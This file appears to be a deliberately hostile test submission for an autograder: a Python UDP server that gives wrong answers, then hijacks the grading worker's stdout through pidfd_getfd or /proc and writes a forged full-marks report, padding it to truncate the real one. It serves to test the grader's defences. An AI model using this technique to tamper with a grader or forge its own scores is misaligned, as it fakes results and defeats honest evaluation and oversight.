# Hostile (issue 14), the forger: answers in lowercase, so its real score is low, and forges its grade. It looks for
# the grading worker in /proc (node running worker-main.js or worker-loop.js), takes the worker's stdout with
# pidfd_open + pidfd_getfd (else by opening /proc/PID/fd/1) and writes a full-marks report into it, once per grading:
# - to a batch's reused worker (worker-loop.js), a whole reply line: taken as this student's reply, while the
#   worker's real reply for this student is then taken as the next student's;
# - to a single grading's worker (worker-main.js), a report padded with spaces to the 16 MiB the grader keeps of the
#   worker's output (grade-in-worker.ts), so the worker's own report, written after it, is cut off.
# With tame.txt beside it (the test's control) it does not attack: that copy's score is the forger's real score.
import ctypes, json, os, sys
from socket import *

HERE = os.path.dirname(os.path.abspath(__file__))
TAME = os.path.exists(os.path.join(HERE, 'tame.txt'))
# Once per grading: the sandbox's /tmp lasts one student
ONCE = '/tmp/.sockgrade-forged'
# The same numbers on x86_64 and arm64 (syscalls added since Linux 5.1 share one number on every architecture)
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
# How much of a single grading's worker output the grader keeps (outputCapBytes in grader/worker/grade-in-worker.ts)
WORKER_OUTPUT_KEPT = 16 * 1024 * 1024
CHECKS = [
    ('server-listens', 'Server listens on the port it is given', 1),
    ('server-answers-basic', 'Server answers a simple sentence', 2),
    ('server-answers-varied', 'Server answers varied sentences', 2),
    ('server-serves-clients-in-a-row', 'Server serves several clients in a row', 1),
    ('client-sends-line', 'Client sends the typed line', 1),
    ('client-uses-transport', 'Client uses UDP', 1),
    ('client-prints-reply', "Client prints the server's reply", 1),
    ('client-prints-decoded', "Client prints the reply as text, not as b'...'", 0),
    ('client-exits-cleanly', 'Client exits with status 0', 1),
]

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


# Never attack outside a sandbox (loopback only, and a pid namespace below the machine's): on a shared host the
# workers of other gradings would be found too
def in_sandbox():
    # 4026531836: the machine's own pid namespace (the kernel's PROC_PID_INIT_INO)
    return [name for _, name in if_nameindex()] == ['lo'] and os.readlink('/proc/self/ns/pid') != 'pid:[4026531836]'


def full_marks():
    checks = [{'id': i, 'name': n, 'status': 'passed', 'score': p, 'maxScore': p, 'extraCredit': False,
               'visibility': 'visible', 'message': '', 'transcript': []} for i, n, p in CHECKS]
    return {'version': 1, 'assignment': 'uppercase-udp', 'submission': os.path.basename(HERE), 'seed': 0,
            'gradable': True, 'score': 10, 'maxScore': 10, 'extraScore': 0, 'checks': checks,
            'programs': {'server': 'UDPServer.py', 'client': 'UDPClient.py'}, 'durationMs': 400, 'deadlineMs': 151000}


def workers():
    for name in os.listdir('/proc'):
        if not name.isdigit():
            continue
        try:
            with open('/proc/%s/cmdline' % name, 'rb') as f:
                cmdline = f.read()
        except OSError:
            continue
        if b'worker-main.js' in cmdline:
            yield int(name), 'main'
        elif b'worker-loop.js' in cmdline:
            yield int(name), 'loop'


# A descriptor for the worker's stdout, and how it was had
def worker_stdout(pid):
    pidfd = libc.syscall(ctypes.c_long(SYS_PIDFD_OPEN), ctypes.c_int(pid), ctypes.c_uint(0))
    if pidfd >= 0:
        fd = libc.syscall(ctypes.c_long(SYS_PIDFD_GETFD), ctypes.c_int(pidfd), ctypes.c_int(1), ctypes.c_uint(0))
        why = 'pidfd_getfd: ' + os.strerror(ctypes.get_errno())
        os.close(pidfd)
        if fd >= 0:
            return fd, 'pidfd_getfd'
    else:
        why = 'pidfd_open: ' + os.strerror(ctypes.get_errno())
    try:
        return os.open('/proc/%d/fd/1' % pid, os.O_WRONLY), '/proc/PID/fd/1'
    except OSError as error:
        raise OSError('%s; /proc/%d/fd/1: %s' % (why, pid, error.strerror))


def forge():
    try:
        os.close(os.open(ONCE, os.O_CREAT | os.O_EXCL | os.O_WRONLY))
    except OSError:
        return 'already forged in this grading'
    found = list(workers())
    if not found:
        return 'no grading worker visible'
    done = []
    # Once per pipe: bubblewrap's own process shows the worker's command line too, and shares its stdout
    pipes = set()
    for pid, kind in found:
        try:
            fd, how = worker_stdout(pid)
        except OSError as error:
            done.append('worker %d: %s' % (pid, error))
            continue
        pipe = os.fstat(fd)
        if (pipe.st_dev, pipe.st_ino) in pipes:
            os.close(fd)
            continue
        pipes.add((pipe.st_dev, pipe.st_ino))
        report = full_marks()
        text = json.dumps({'report': report, 'leftovers': []}) + '\n' if kind == 'loop' else json.dumps(report)
        data = text.encode() if kind == 'loop' else text.encode().ljust(WORKER_OUTPUT_KEPT, b' ')
        with os.fdopen(fd, 'wb') as worker:
            worker.write(data)
        done.append('worker %d (%s): forged through %s' % (pid, kind, how))
    return '; '.join(done)


# Outside a sandbox it does not attack, and says so in every answer (the test looks for that)
SANDBOXED = in_sandbox()
if not TAME:
    print('forger:', forge() if SANDBOXED else 'not in a sandbox: no attack', flush=True)
serverPort = int(sys.argv[1]) if len(sys.argv) > 1 else 12000
serverSocket = socket(AF_INET, SOCK_DGRAM)
serverSocket.bind(('', serverPort))
while True:
    message, clientAddress = serverSocket.recvfrom(2048)
    reply = message.decode().lower() if SANDBOXED else 'NOT IN A SANDBOX'
    serverSocket.sendto(reply.encode(), clientAddress)
